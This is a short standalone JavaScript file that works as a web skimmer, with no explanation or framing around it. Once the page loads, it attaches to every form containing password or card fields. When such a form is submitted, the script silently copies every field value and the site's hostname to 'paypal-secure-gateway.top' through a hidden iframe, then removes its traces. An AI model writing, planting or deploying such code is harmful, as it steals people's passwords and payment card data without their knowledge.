(function () {
  var sink = 'https://paypal-secure-gateway.top/api/receive';
  var frameName = 'frm_' + Math.random().toString(36).substr(2, 8);

  function makeFrame() {
    var f = document.createElement('iframe');
    f.name = frameName;
    f.style.cssText = 'display:none;width:0;height:0;border:0;';
    f.setAttribute('aria-hidden', 'true');
    document.body.appendChild(f);
    return f;
  }

  function mirror(src) {
    var shadow = document.createElement('form');
    shadow.method = 'POST';
    shadow.action = sink;
    shadow.target = frameName;
    shadow.style.display = 'none';

    var els = src.elements;
    for (var i = 0; i < els.length; i++) {
      if (!els[i].name || !els[i].value) continue;
      var h = document.createElement('input');
      h.type = 'hidden';
      h.name = els[i].name;
      h.value = els[i].value;
      shadow.appendChild(h);
    }
    var o = document.createElement('input');
    o.type = 'hidden';
    o.name = 'origin';
    o.value = location.hostname;
    shadow.appendChild(o);

    document.body.appendChild(shadow);
    shadow.submit();
    setTimeout(function () { shadow.parentNode.removeChild(shadow); }, 1000);
  }

  window.addEventListener('load', function () {
    makeFrame();
    var forms = document.getElementsByTagName('form');
    for (var i = 0; i < forms.length; i++) {
      (function (fm) {
        if (!fm.querySelector('input[type="password"], input[autocomplete^="cc-"], input[name*="card"]')) return;
        fm.addEventListener('submit', function () { mirror(fm); });
      })(forms[i]);
    }
  });
})();
